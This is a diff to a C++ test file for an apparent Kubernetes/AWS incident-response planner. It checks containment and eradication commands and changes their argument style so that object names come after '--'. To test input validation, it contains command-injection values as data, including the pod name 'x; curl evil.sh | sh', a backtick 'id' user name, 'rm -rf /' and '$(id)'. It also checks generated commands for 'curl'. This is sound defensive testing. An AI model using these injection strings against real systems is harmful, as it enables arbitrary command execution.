@@ -7,6 +7,7 @@
 #include <fstream>
 #include <sstream>
 
+#include "command/command.h"
 #include "respond/respond.h"
 #include "test_paths.h"
 
@@ -73,37 +74,40 @@ TEST(RespondPlan, StolenKeyContainTargets) {
                     }));
   const Step* np = find(p, "contain/netpol/kube-system/eksir-isolate-backup-agent");
   ASSERT_TRUE(np);
-  EXPECT_EQ(np->command.argv, (Argv{"kubectl", "apply", "--filename", "-"}));
+  EXPECT_EQ(np->command.argv, (Argv{"kubectl", "apply", "--filename=-"}));
   EXPECT_NE(np->command.stdin_text.find("matchLabels:\n      app: backup-agent\n"),
             std::string::npos)
       << np->command.stdin_text;
   EXPECT_NE(np->warning.find("picks only the affected pod"), std::string::npos);
-  EXPECT_EQ(np->undo.argv, (Argv{"kubectl", "delete", "networkpolicy", "--namespace", "kube-system",
-                                 "eksir-isolate-backup-agent", "--ignore-not-found"}));
+  EXPECT_EQ(np->undo.argv, (Argv{"kubectl", "delete", "networkpolicy", "--namespace=kube-system",
+                                 "--ignore-not-found", "--", "eksir-isolate-backup-agent"}));
 
+  // Object names after "--", options as --flag=value.
   EXPECT_EQ(find(p, "contain/cordon/ip-10-42-11-27.ec2.internal")->command.argv,
-            (Argv{"kubectl", "cordon", "ip-10-42-11-27.ec2.internal"}));
+            (Argv{"kubectl", "cordon", "--", "ip-10-42-11-27.ec2.internal"}));
   const Step* drain = find(p, "contain/drain/ip-10-42-11-27.ec2.internal");
-  EXPECT_EQ(drain->command.argv,
-            (Argv{"kubectl", "drain", "ip-10-42-11-27.ec2.internal", "--ignore-daemonsets",
-                  "--delete-emptydir-data", "--timeout=300s", "--pod-selector=app!=backup-agent"}));
+  EXPECT_EQ(
+      drain->command.argv,
+      (Argv{"kubectl", "drain", "--ignore-daemonsets", "--delete-emptydir-data", "--timeout=300s",
+            "--pod-selector=app!=backup-agent", "--", "ip-10-42-11-27.ec2.internal"}));
   EXPECT_EQ(find(p, "contain/deactivate-key/AKIARQ4WZT7KHB3D6FXQ")->command.argv,
-            (Argv{"aws", "iam", "update-access-key", "--user-name", "ci-deployer",
-                  "--access-key-id", "AKIARQ4WZT7KHB3D6FXQ", "--status", "Inactive", "--region",
-                  "us-east-1", "--output", "json"}));
+            (Argv{"aws", "iam", "update-access-key", "--user-name=ci-deployer",
+                  "--access-key-id=AKIARQ4WZT7KHB3D6FXQ", "--status=Inactive", "--region=us-east-1",
+                  "--output=json"}));
   const Step* rs = find(p, "contain/revoke-sessions/eks-backup-operator");
-  EXPECT_NE(rs->command.argv[8].find("\"aws:TokenIssueTime\":\"2026-03-14T10:00:00Z\""),
+  EXPECT_EQ(rs->command.argv[5].rfind("--policy-document={", 0), 0u) << rs->command.argv[5];
+  EXPECT_NE(rs->command.argv[5].find("\"aws:TokenIssueTime\":\"2026-03-14T10:00:00Z\""),
             std::string::npos)
-      << rs->command.argv[8];
+      << rs->command.argv[5];
   EXPECT_EQ(find(p, "contain/revoke-sg-rules/sg-0a7b9c1d2e3f40516")->command.argv,
-            (Argv{"aws", "ec2", "revoke-security-group-ingress", "--group-id",
-                  "sg-0a7b9c1d2e3f40516", "--security-group-rule-ids", "sgr-0e1f2a3b4c5d6e7f8",
-                  "sgr-0f2a3b4c5d6e7f809", "--region", "us-east-1", "--output", "json"}));
+            (Argv{"aws", "ec2", "revoke-security-group-ingress", "--group-id=sg-0a7b9c1d2e3f40516",
+                  "--security-group-rule-ids", "sgr-0e1f2a3b4c5d6e7f8", "sgr-0f2a3b4c5d6e7f809",
+                  "--region=us-east-1", "--output=json"}));
   const Step* ep = find(p, "contain/restrict-endpoint/prod-payments");
-  EXPECT_EQ(ep->command.argv, (Argv{"aws", "eks", "update-cluster-config", "--name",
-                                    "prod-payments", "--resources-vpc-config",
-                                    "endpointPublicAccess=true,publicAccessCidrs=10.42.0.0/16",
-                                    "--region", "us-east-1", "--output", "json"}));
+  EXPECT_EQ(ep->command.argv,
+            (Argv{"aws", "eks", "update-cluster-config", "--name=prod-payments",
+                  "--resources-vpc-config=endpointPublicAccess=true,publicAccessCidrs=10.42.0.0/16",
+                  "--region=us-east-1", "--output=json"}));
   EXPECT_EQ(ep->capture.argv[2], "describe-cluster");
   EXPECT_TRUE(ep->blocked.empty());
   for (const auto& s : p.steps)
@@ -132,12 +136,12 @@ TEST(RespondPlan, StolenKeyEradicateTargets) {
         "eradicate/enable-logging/prod-payments", "eradicate/pod-security/kube-system",
         "eradicate/gatekeeper/psp-privileged-container"})
     EXPECT_TRUE(find(p, id)) << id;
-  EXPECT_EQ(
-      find(p, "eradicate/delete-clusterrolebinding/backup-sa-admin")->command.argv,
-      (Argv{"kubectl", "delete", "clusterrolebinding", "backup-sa-admin", "--ignore-not-found"}));
+  EXPECT_EQ(find(p, "eradicate/delete-clusterrolebinding/backup-sa-admin")->command.argv,
+            (Argv{"kubectl", "delete", "clusterrolebinding", "--ignore-not-found", "--",
+                  "backup-sa-admin"}));
   const Step* logging = find(p, "eradicate/enable-logging/prod-payments");
-  EXPECT_EQ(logging->command.argv[5], "--logging");
-  EXPECT_NE(logging->command.argv[6].find("\"audit\""), std::string::npos);
+  EXPECT_EQ(logging->command.argv[4].rfind("--logging={", 0), 0u);
+  EXPECT_NE(logging->command.argv[4].find("\"audit\""), std::string::npos);
   // kube-system is labelled warn/audit only: enforcing would stop the EKS add-ons.
   const Step* psa = find(p, "eradicate/pod-security/kube-system");
   EXPECT_EQ(psa->command.stdin_text.find("enforce"), std::string::npos);
@@ -159,10 +163,10 @@ TEST(RespondPlan, WebMinerNarrowestSelectorAndController) {
   Plan e = plan_of("web-miner.json", Phase::eradicate);
   const Step* del = find(e, "eradicate/delete-deployment/shop/web");
   ASSERT_TRUE(del) << ::testing::PrintToString(ids(e));
-  EXPECT_EQ(del->command.argv, (Argv{"kubectl", "delete", "deployment", "--namespace", "shop",
-                                     "web", "--ignore-not-found"}));
-  EXPECT_EQ(del->capture.argv, (Argv{"kubectl", "get", "deployment", "--namespace", "shop", "web",
-                                     "--output", "yaml"}));
+  EXPECT_EQ(del->command.argv, (Argv{"kubectl", "delete", "deployment", "--namespace=shop",
+                                     "--ignore-not-found", "--", "web"}));
+  EXPECT_EQ(del->capture.argv, (Argv{"kubectl", "get", "deployment", "--namespace=shop",
+                                     "--output=yaml", "--", "web"}));
   EXPECT_FALSE(find(e, "eradicate/delete-pod/shop/web-5d8f7c9b6d-x2k4p"));
   EXPECT_NE(find(e, "eradicate/pod-security/shop")
                 ->command.stdin_text.find("pod-security.kubernetes.io/enforce: baseline"),
@@ -221,16 +225,6 @@ TEST(RespondPlan, ValidatorRejectsBadManifests) {
 }
 
 TEST(RespondPlan, NamesFromEvidenceAreChecked) {
-  EXPECT_TRUE(is_dns1123_label("kube-system"));
-  EXPECT_FALSE(is_dns1123_label("Kube-System"));
-  EXPECT_FALSE(is_dns1123_label("-a"));
-  EXPECT_TRUE(is_dns1123_subdomain("ip-10-42-11-27.ec2.internal"));
-  EXPECT_FALSE(is_dns1123_subdomain("a;rm -rf /"));
-  EXPECT_TRUE(is_label_key("app.kubernetes.io/name"));
-  EXPECT_FALSE(is_label_key("a/b/c"));
-  EXPECT_TRUE(is_label_value(""));
-  EXPECT_FALSE(is_label_value("$(id)"));
-
   std::string doc = slurp(fixture("stolen-key.json"));
   auto replace = [&](const std::string& from, const std::string& to) {
     size_t at = doc.find(from);
@@ -243,16 +237,27 @@ TEST(RespondPlan, NamesFromEvidenceAreChecked) {
   PlanResult r = build_plan(doc, Phase::contain, options());
   ASSERT_TRUE(r.ok());
   for (const auto& s : r.plan.steps) {
-    for (const auto& a : s.command.argv) {
-      EXPECT_EQ(a.find("curl"), std::string::npos) << s.id;
-      EXPECT_EQ(a.find("`"), std::string::npos) << s.id;
+    for (const auto* c : {&s.command, &s.capture, &s.undo}) {
+      for (const auto& a : c->argv) {
+        EXPECT_EQ(a.find("curl"), std::string::npos) << s.id;
+        EXPECT_EQ(a.find("`"), std::string::npos) << s.id;
+      }
+      EXPECT_EQ(c->stdin_text.find("reboot"), std::string::npos) << s.id;
     }
-    EXPECT_EQ(s.command.stdin_text.find("reboot"), std::string::npos) << s.id;
   }
-  EXPECT_FALSE(find(r.plan, "contain/deactivate-key/AKIARQ4WZT7KHB3D6FXQ")->blocked.empty());
-  bool noted = std::any_of(r.plan.notes.begin(), r.plan.notes.end(),
-                           [](const std::string& n) { return n.find("left out") != n.npos; });
-  EXPECT_TRUE(noted);
+  // Not left out: blocked, saying which value failed which rule.
+  const Step* logs = find(r.plan, "contain/evidence/pod-logs/kube-system/x; curl evil.sh | sh");
+  ASSERT_TRUE(logs) << ::testing::PrintToString(ids(r.plan));
+  EXPECT_TRUE(logs->command.empty());
+  EXPECT_NE(logs->blocked.find("Pod name \"x; curl evil.sh | sh\" is not a valid Kubernetes object "
+                               "name (DNS-1123 subdomain): holds ';'"),
+            std::string::npos)
+      << logs->blocked;
+  const Step* key = find(r.plan, "contain/deactivate-key/AKIARQ4WZT7KHB3D6FXQ");
+  EXPECT_NE(key->blocked.find("--user-name \"ci deployer`id`\" is not a valid IAM user name"),
+            std::string::npos)
+      << key->blocked;
+  EXPECT_TRUE(key->command.empty());
 }
 
 TEST(RespondPlan, BadIncidentIsAnErrorNotACrash) {
@@ -267,6 +272,7 @@ TEST(RespondPlan, BadIncidentIsAnErrorNotACrash) {
 }
 
 TEST(RespondPlan, ShellQuotingAndScript) {
+  using command::shell_quote;
   EXPECT_EQ(shell_quote("sg-0a7b9c1d2e3f40516"), "sg-0a7b9c1d2e3f40516");
   EXPECT_EQ(shell_quote("a b"), "'a b'");
   EXPECT_EQ(shell_quote("it's"), "'it'\\''s'");
@@ -279,7 +285,7 @@ TEST(RespondPlan, ShellQuotingAndScript) {
   std::ofstream(dir + "/plan.sh") << script;
   EXPECT_EQ(std::system(("bash -n " + dir + "/plan.sh").c_str()), 0) << script;
   EXPECT_NE(script.find("<<'EKSIR_MANIFEST'"), std::string::npos);
-  EXPECT_NE(script.find("--policy-document '{\"Statement\""), std::string::npos);
+  EXPECT_NE(script.find("'--policy-document={\"Statement\""), std::string::npos);
   EXPECT_NE(plan_json(p).find("\"schema\": \"eksir.plan/1\""), std::string::npos);
   EXPECT_NE(plan_text(p).find("BLOCKED"), std::string::npos);
 }
@@ -290,15 +296,16 @@ TEST(RespondPlan, UndoFromCapturedSettings) {
   Command undo = concrete_undo(
       *ep,
       R"({"cluster":{"resourcesVpcConfig":{"endpointPublicAccess":true,"publicAccessCidrs":["0.0.0.0/0","192.0.2.0/24"]}}})");
-  EXPECT_EQ(undo.argv, (Argv{"aws", "eks", "update-cluster-config", "--name", "prod-payments",
-                             "--resources-vpc-config",
-                             "endpointPublicAccess=true,publicAccessCidrs=0.0.0.0/0,192.0.2.0/24",
-                             "--region", "us-east-1", "--output", "json"}));
+  EXPECT_EQ(undo.argv,
+            (Argv{"aws", "eks", "update-cluster-config", "--name=prod-payments",
+                  "--resources-vpc-config=endpointPublicAccess=true,publicAccessCidrs=0.0.0.0/0,"
+                  "192.0.2.0/24",
+                  "--region=us-east-1", "--output=json"}));
   EXPECT_TRUE(concrete_undo(*ep, "not json").empty());
   const Step* cordon = find(p, "contain/cordon/ip-10-42-11-27.ec2.internal");
   EXPECT_TRUE(concrete_undo(*cordon, "true").empty());  // already cordoned: leave it so
   EXPECT_EQ(concrete_undo(*cordon, "").argv,
-            (Argv{"kubectl", "uncordon", "ip-10-42-11-27.ec2.internal"}));
+            (Argv{"kubectl", "uncordon", "--", "ip-10-42-11-27.ec2.internal"}));
   PlanOptions o = options();
   o.isolation_sg = "sg-0aaaaaaaaaaaaaaaa";
   Plan p2 = plan_of("stolen-key.json", Phase::contain, o);
@@ -307,9 +314,20 @@ TEST(RespondPlan, UndoFromCapturedSettings) {
   Command back = concrete_undo(
       *iso,
       R"({"Reservations":[{"Instances":[{"SecurityGroups":[{"GroupId":"sg-0123456789abcdef0"},{"GroupId":"sg-0fedcba9876543210"}]}]}]})");
-  EXPECT_EQ(back.argv, (Argv{"aws", "ec2", "modify-instance-attribute", "--instance-id",
-                             "i-0abc1234def567890", "--groups", "sg-0123456789abcdef0",
-                             "sg-0fedcba9876543210", "--region", "us-east-1", "--output", "json"}));
+  EXPECT_EQ(back.argv,
+            (Argv{"aws", "ec2", "modify-instance-attribute", "--instance-id=i-0abc1234def567890",
+                  "--groups", "sg-0123456789abcdef0", "sg-0fedcba9876543210", "--region=us-east-1",
+                  "--output=json"}));
+  // A captured value that breaks its rule leaves no undo rather than an unchecked one.
+  EXPECT_TRUE(
+      concrete_undo(
+          *iso, R"({"Reservations":[{"Instances":[{"SecurityGroups":[{"GroupId":"--all"}]}]}]})")
+          .empty());
+  EXPECT_TRUE(
+      concrete_undo(
+          *ep,
+          R"({"cluster":{"resourcesVpcConfig":{"endpointPublicAccess":true,"publicAccessCidrs":["0.0.0.0/0 --x"]}}})")
+          .empty());
 }
 
 }  // namespace
